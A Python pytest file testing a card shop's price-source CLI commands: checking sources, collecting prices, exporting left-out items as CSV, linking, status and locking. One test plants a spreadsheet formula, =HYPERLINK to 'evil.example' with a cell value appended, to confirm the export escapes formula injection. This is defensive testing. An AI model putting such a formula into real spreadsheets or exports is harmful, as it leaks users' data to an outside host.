"""The commands about price sources, as a shop gives them."""

from __future__ import annotations

import csv
import io
import logging
import signal
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from scanner.catalog.disk import locked
from scanner.cli import main
from scanner.tables import utc_now
from sync.cloud.config import CloudConfig
from sync.cloud.jobs import JobContext
from sync.cloud.sources.book_sql import SqlBook
from sync.cloud.sources.collector import LOCK
from sync.cloud.sources.job import collect_due
from sync.cloud.sources.records import Kind, LeftOut, Why
from sync.cloud.store import CloudStore
from tests.sync.sources.shop import NEWT, WING, scanned, serve, settings
from tests.sync.sources.web import Web, raw, status


@pytest.fixture
def shop(tmp_path: Path, web: Web) -> Path:
    folder = tmp_path / "shop"
    with CloudStore(folder) as store:
        scanned(store, NEWT, WING)
    (folder / "cloud.toml").touch(mode=0o600)
    (folder / "cloud.toml").write_text(
        f'[sources]\nmirror = "{web.url}"\nonly = "tcgcsv, ebay"\n', encoding="utf-8"
    )
    serve(web)
    return folder


Cloud = Callable[..., tuple[int, str, str]]


@pytest.fixture
def cloud(shop: Path, capsys: pytest.CaptureFixture[str]) -> Iterator[Cloud]:
    """`counterscan cloud …` within this process: its exit code, and what it said."""
    handlers = {number: signal.getsignal(number) for number in (signal.SIGINT, signal.SIGTERM)}
    root = logging.getLogger()
    level, before = root.level, root.handlers[:]

    def run(*words: str | Path) -> tuple[int, str, str]:
        capsys.readouterr()
        code = main(["--data", str(shop), "cloud", *map(str, words)])
        return code, *capsys.readouterr()

    yield run
    root.setLevel(level)
    root.handlers[:] = before
    for number, handler in handlers.items():
        signal.signal(number, handler)


def test_the_commands(cloud: Cloud, tmp_path: Path) -> None:
    code, said, _ = cloud("sources", "check")
    assert code == 0
    assert "tcgcsv: prices of 2026-05-01T20:05:30+0000; USD; pokemon; about 5 of 9000" in said
    assert "ebay: not asked: set ebay_client_id" in said
    assert "collect = true" in said
    code, said, _ = cloud("collect", "--source", "tcgcsv", "--game", "pokemon")
    assert code == 0
    assert "tcgcsv, pokemon: done, 2 prices, 2 of them new, 1 left out" in said
    rows = list(csv.DictReader(io.StringIO(cloud("sources", "left-out")[1])))
    named = [(row["kind"], row["their_id"], row["card_id"]) for row in rows]
    assert named == [("set", "Other", "")]
    file = tmp_path / "links.csv"
    file.write_text("game,kind,their_id,card_id\npokemon,set,Other,Tin Harbour\npokemon,set,a,b\n")
    code, said, complaint = cloud("sources", "link", file)
    assert (code, said[:10]) == (1, "1 taken in")
    assert "there is no printing or set 'b'" in complaint
    assert "tcgcsv: 5 requests" in cloud("sources", "usage")[1]
    code, said, _ = cloud("sources", "status")
    assert (code, said.startswith("tcgcsv, pokemon: last good 20")) == (0, True)


def test_what_was_left_out_is_no_formula_in_a_spreadsheet_and_comes_back(
    cloud: Cloud, shop: Path, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example"&A1,"Newt")'
    with CloudStore(shop) as store:
        book = SqlBook(store)
        lost = [
            LeftOut(Kind.SET, their_id, name, name, "", Why.NO_SET)
            for their_id, name in (("=Oddments", evil), ("Plain", "+2 Mace"))
        ]
        book.set_left_out("tcgcsv", "pokemon", lost)
    written = cloud("sources", "left-out")[1]
    rows = list(csv.DictReader(io.StringIO(written)))
    assert [(row["their_id"], row["name"]) for row in rows] == [
        ("'=Oddments", f"'{evil}"), ("Plain", "+2 Mace")
    ]  # fmt: skip
    for at, delimiter in enumerate(",;"):
        text = io.StringIO(newline="")
        writer = csv.DictWriter(text, rows[0].keys(), delimiter=delimiter)
        writer.writeheader()
        writer.writerows({**row, "card_id": "Tin Harbour"} for row in rows)
        file = tmp_path / f"links-{at}.csv"
        file.write_text(text.getvalue(), encoding="utf-8", newline="")
        assert cloud("sources", "link", file)[0] == 0
        with CloudStore(shop) as store:
            links = SqlBook(store).links("pokemon")
        assert {link.their_id for link in links} == {"=Oddments", "Plain"}


def test_a_source_that_fails_is_told_by_the_exit_code(cloud: Cloud, web: Web) -> None:
    web.routes["/tcgcsv/tcgplayer/3/groups"] = raw(b"<html>")
    code, said, _ = cloud("collect")
    assert code == 1
    assert "failed, 0 prices" in said
    code, said, _ = cloud("sources", "status")
    assert code == 1
    assert "not within two weeks; failed 1 times since: tcgcsv sent something" in said
    web.routes["/tcgcsv/last-updated.txt"] = status(403)
    code, said, _ = cloud("sources", "check")
    assert code == 1
    assert "refuses this shop" in said


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("collect", "--source", "ebay"), "set ebay_client_id"),
        (("collect", "--source", "scryfall"), "leaves it out"),
        (("collect", "--game", "chess"), "no printings of chess"),
        (("collect", "--due", "--game", "chess"), ""),
        (("sources", "link", "/no/such.csv"), "can't be read"),
        (("rates",), "name a file"),
        (("rates", "--convert", "1.00 USD", "--to", "EUR"), "No rate between USD and EUR"),
    ],
)
def test_a_command_that_can_not_be_done_says_what_to_do(
    cloud: Cloud, words: tuple[str, ...], said: str
) -> None:
    code, _, complaint = cloud(*words)
    assert said in complaint
    assert bool(code) == bool(said)


def test_two_collections_at_once_would_ask_twice_as_often_as_allowed(
    cloud: Cloud, shop: Path, web: Web
) -> None:
    config = CloudConfig(sources=settings(web))
    with locked(shop / LOCK, "Somebody"), CloudStore(shop) as store:
        assert collect_due(JobContext(store, config, utc_now())) == ""
        code, _, complaint = cloud("collect")
    assert code == 1
    assert "Another collection of prices is at work" in complaint
    assert web.requests == []
